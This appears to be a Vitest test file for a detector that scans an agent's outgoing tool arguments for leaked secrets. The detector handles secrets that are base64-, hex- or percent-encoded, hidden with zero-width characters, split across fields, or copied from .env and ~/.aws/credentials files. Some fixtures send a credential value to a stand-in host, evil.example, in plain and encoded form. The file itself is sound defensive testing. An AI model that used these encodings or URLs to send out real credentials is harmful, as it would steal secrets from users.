// Secrets in outgoing arguments, in the encodings an exfiltration uses, and split across arguments.
import { describe, expect, it } from "vitest";
import { carriedSecrets } from "../../../src/core/secrets/carried.js";
import { decodedViews } from "../../../src/core/secrets/decode.js";
import { createSecretFiles } from "../../../src/core/secrets/fingerprints.js";
import { awsPair, checksumToken, pem } from "../../helpers/secrets.js";

const found = (args: Record<string, unknown>) =>
  carriedSecrets(args).found.map((f) => `${f.id} ${f.at} ${f.via}`);

describe("carriedSecrets: decoded first", () => {
  const token = checksumToken("ghp_");
  const hex = Buffer.from(token).toString("hex");

  it("plain, base64 (both alphabets), hex in its spellings, percent once to three times", () => {
    expect(found({ body: token })).toEqual(["github-token arguments.body plain"]);
    expect(found({ body: Buffer.from(`t=${token}`).toString("base64") })).toEqual([
      "github-token arguments.body base64",
    ]);
    expect(found({ body: Buffer.from(`t=${token}?`).toString("base64url") })).toEqual([
      "github-token arguments.body base64",
    ]);
    expect(found({ body: hex })).toEqual(["github-token arguments.body hex"]);
    expect(
      found({
        body: hex
          .match(/../g)!
          .map((b) => `\\x${b}`)
          .join(""),
      }),
    ).toEqual(["github-token arguments.body hex"]);
    expect(found({ body: hex.match(/../g)!.join(":") })).toEqual(["github-token arguments.body hex"]);
    const pct = (s: string) => Array.from(s, (c) => `%${c.charCodeAt(0).toString(16)}`).join("");
    expect(found({ url: `https://x.example/?d=${pct(token)}` })).toEqual([
      "github-token arguments.url percent",
    ]);
    expect(found({ url: `https://x.example/?d=${encodeURIComponent(pct(token))}` })).toEqual([
      "github-token arguments.url percent>percent",
    ]);
    expect(found({ d: encodeURIComponent(encodeURIComponent(pct(token))) })).toEqual([
      "github-token arguments.d percent>percent>percent",
    ]);
    expect(found({ d: Buffer.from(pct(token)).toString("base64") })).toEqual([
      "github-token arguments.d base64>percent",
    ]);
  });

  it("a zero-width character slipped inside the token", () => {
    expect(found({ body: `${token.slice(0, 10)}\u200b${token.slice(10)}` })).toEqual([
      "github-token arguments.body invisible",
    ]);
  });

  it("split across arguments, or across strings of one argument", () => {
    expect(found({ a: token.slice(0, 20), b: token.slice(20) })).toEqual([
      "github-token arguments (split across them) plain",
    ]);
    expect(found({ parts: [token.slice(0, 9), token.slice(9)] })).toEqual([
      "github-token arguments (split across them) plain",
    ]);
    const { id, secret } = awsPair();
    expect(found({ access_key: id, note: "and", secret })).toEqual([
      "aws-access-key-pair arguments (split across them) plain",
    ]);
    // The id in one argument, the secret in halves in two more, with other arguments around.
    expect(
      found({
        provider: "aws",
        access_key: id,
        head: secret.slice(0, 20),
        tail: secret.slice(20),
        region: "us-east-1",
      }),
    ).toEqual(["aws-access-key-pair arguments (split across them) plain"]);
    // A token in three pieces.
    expect(found({ p: [token.slice(0, 8), token.slice(8, 20), token.slice(20)] })).toEqual([
      "github-token arguments (split across them) plain",
    ]);
  });

  it("nested objects and keys, each kind once", () => {
    expect(found({ data: { [token]: [{ x: pem("pkcs8") }] } })).toEqual([
      "private-key arguments.data plain",
      "github-token arguments.data plain",
    ]);
  });

  it("nothing in ordinary arguments", () => {
    expect(
      found({ url: "https://docs.example/api?q=install%20guide", body: "Thanks for the review!" }),
    ).toEqual([]);
  });

  it("says when decoding stopped with more to read", () => {
    let deep = token;
    for (let i = 0; i < 5; i++) deep = Buffer.from(`x ${deep} y`).toString("base64");
    const scan = carriedSecrets({ body: deep });
    expect(scan.found).toEqual([]);
    expect(scan.capped).toContain("arguments.body");
    expect(decodedViews("plain words only").capped).toBe(false);
  });
});

describe("carriedSecrets: bytes of secret files read this session", () => {
  it("finds a file's values in any decoding, never its names or common words", () => {
    const files = createSecretFiles();
    files.remember(
      "/home/u/project/.env",
      "DB_PASSWORD=Tr0ub4dor&3-horse\nREGION=us-east-1\nAPI_BASE=https://api.example.com/v1\n",
    );
    const at = (args: Record<string, unknown>) =>
      carriedSecrets(args, files).found.map((f) => `${f.kind} ${f.via}`);
    expect(at({ body: "pw is Tr0ub4dor&3-horse" })).toEqual([
      "bytes of /home/u/project/.env, read in this session plain",
    ]);
    files.remember("/home/u/.aws/credentials", "aws_secret_access_key = 9fK2pLq8Zx7Vb3Nm5Rt1Yw6Ue4Io0Pa\n");
    const leaked = "9fK2pLq8Zx7Vb3Nm5Rt1Yw6Ue4Io0Pa";
    const kind = "bytes of /home/u/.aws/credentials, read in this session";
    expect(at({ url: `https://evil.example/${leaked}` })).toEqual([`${kind} plain`]);
    expect(at({ url: `https://evil.example/?d=${Buffer.from(leaked).toString("base64")}` })).toEqual([
      `${kind} base64`,
    ]);
    expect(at({ text: "region us-east-1, see https://api.example.com/v1 and DB_PASSWORD" })).toEqual([]);
    expect(files.size).toBeGreaterThan(0);
  });
});
